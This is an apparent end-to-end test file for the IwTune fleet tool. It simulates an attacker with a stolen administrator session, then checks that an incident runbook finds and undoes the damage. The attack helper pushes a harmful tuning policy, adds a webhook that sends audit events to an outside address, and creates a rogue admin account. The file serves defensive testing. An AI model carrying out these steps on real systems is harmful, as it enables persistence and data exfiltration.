using IwTune.EndToEnd.Fleet;
using IwTune.Lab;
using IwTune.Shared.Fleet;
using IwTune.Testing;
using static IwTune.EndToEnd.Fleet.Joining;

namespace IwTune.EndToEnd.Incidents;

/// <summary>The attacker has the session of an administrator, and has made a token with it.</summary>
public sealed class StolenSessionTests : IClassFixture<Joining>
{
    private const int Good = 4,
        Harmful = 40;

    private readonly Joining joining;

    public StolenSessionTests(Joining joining)
    {
        Privileged.Require();
        this.joining = joining;
    }

    [Fact]
    public async Task What_a_stolen_session_did_is_found_and_undone_and_the_attacker_is_out()
    {
        joining.Push("lis", Good);
        var agent = joining.Joined(0, "lis");
        await InitCwndIsAsync(agent, Good);
        using var session = await Person.ComeAsync(joining.Site.Client, joining.Server, "anna");
        using var account = await AttackAsync(session, agent);
        Assert.True(await account.OpensAsync("/hosts"));

        var administrator = joining.Administrator;
        var runbook = new Runbook("The session or the token of an administrator was stolen")
        {
            OnServer = joining.Server.Run,
            ByAdministrator = administrator.Run,
        };
        runbook.Run("iwtune-server user lock NAME --reason \"session stolen\"", "anna");
        Assert.False(await session.OpensAsync("/hosts"));

        var today = DateTime.UtcNow.AddDays(-1).ToString("yyyy-MM-dd");
        var done = runbook.Run("iwtune fleet audit list --actor user:NAME --since DAY", "anna", today);
        Assert.Contains("token.create", done, StringComparison.Ordinal);
        done = runbook.Run("iwtune fleet audit list --actor token:TOKEN --since DAY", "anna", today);
        Assert.All(
            (string[])["user.create", "webhook.add", "policy.publish"],
            action => Assert.Contains(action, done, StringComparison.Ordinal)
        );

        Assert.Equal(0, session.Run("fleet", "hosts").ExitCode);
        runbook.Run("iwtune fleet tokens list");
        runbook.Run(
            "iwtune fleet tokens revoke ID",
            await administrator.IdAsync(FleetPaths.Tokens, token => token.GetProperty("name").GetString() == "anna")
        );
        Assert.NotEqual(0, session.Run("fleet", "hosts").ExitCode);
        Assert.Contains("mallory", runbook.Run("iwtune fleet users list"), StringComparison.Ordinal);
        runbook.Run("iwtune fleet users remove ACCOUNT --reason \"made with a stolen session\"", "mallory");
        Assert.False(await account.OpensAsync("/hosts"));
        runbook.Run("iwtune fleet webhooks list");
        runbook.Run("iwtune fleet webhooks remove WEBHOOK", await administrator.IdAsync(FleetPaths.Webhooks, _ => true));
        runbook.Run("iwtune fleet policies history POLICY", "lis");
        runbook.Run("iwtune fleet policies rollback POLICY --to N --reason \"published with a stolen session\"", "lis", "1");
        await InitCwndIsAsync(agent, Good);
        runbook.Run("iwtune fleet audit verify");
        Assert.Contains(agent.Host.Name, runbook.Run("iwtune fleet hosts"), StringComparison.Ordinal);

        runbook.Run("iwtune-server user reset NAME --reason \"session stolen\"", "anna");
        runbook.Run("iwtune-server user unlock NAME --reason \"session stolen\"", "anna");
        Assert.False(await session.OpensAsync("/hosts"));
        Assert.NotEqual(0, session.Run("fleet", "hosts").ExitCode);
        runbook.AssertAtEnd();
    }

    /// <returns>The attacker's own account, signed in.</returns>
    private async Task<Person> AttackAsync(Person session, AgentProcess agent)
    {
        Assert.True(await session.OpensAsync("/hosts"));
        var harmful = Path.Combine(joining.Server.Data, "..", "harmful.yaml");
        await File.WriteAllTextAsync(harmful, $"policy: lis\nwindow: {{ initcwnd: {Harmful} }}\nscopes: [default]\n");
        Ran(session.Run("fleet", "policies", "push", harmful, "--assign", "site:lis", "--reason", "tuning"));
        await InitCwndIsAsync(agent, Harmful);
        Ran(session.Run("fleet", "webhooks", "add", "https://9.9.9.9/collect", "--name", "collector", "--kinds", "audit"));
        var made = Ran(session.Run("fleet", "users", "add", "mallory", "--role", "admin"));
        return await Person.SignedInAsync(joining.Site.Client, joining.Server, "mallory", made.Split('\n')[1].Split(' ')[^1]);
    }
}
